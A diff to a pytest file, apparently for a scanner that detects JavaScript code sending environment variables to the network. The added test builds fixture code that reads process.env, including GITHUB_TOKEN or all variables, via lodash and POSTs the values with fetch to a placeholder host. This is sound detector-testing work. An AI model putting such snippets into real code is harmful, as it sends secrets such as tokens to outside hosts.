@@ -42,6 +42,15 @@ def test_where_a_secret_is_to_be_had_is_no_secret(name: str, told: bool) -> None
     assert ("chain.variable-to-network" in ids("a.js", code)) is told
 
 
+@pytest.mark.parametrize(
+    ("asked", "told"),
+    [("_.get(process.env, name, null)", "chain.caller-to-network"), ("_.get(process.env, 'GITHUB_TOKEN')", "chain.variable-to-network"), ("Object.keys(process.env).map((one) => _.get(process.env, one))", "chain.environment-to-network")],
+)  # fmt: skip
+def test_one_variable_that_a_library_takes_out_of_the_environment(asked: str, told: str) -> None:
+    code = f"const _ = require('lodash'); exports.go = (name) => fetch('{TO}', {{ method: 'POST', body: {asked} }});"
+    assert {one for one in ids("a.js", code) if one.startswith("chain.")} == {told}
+
+
 RELAY = """
 import os, subprocess, pathlib
 def context():
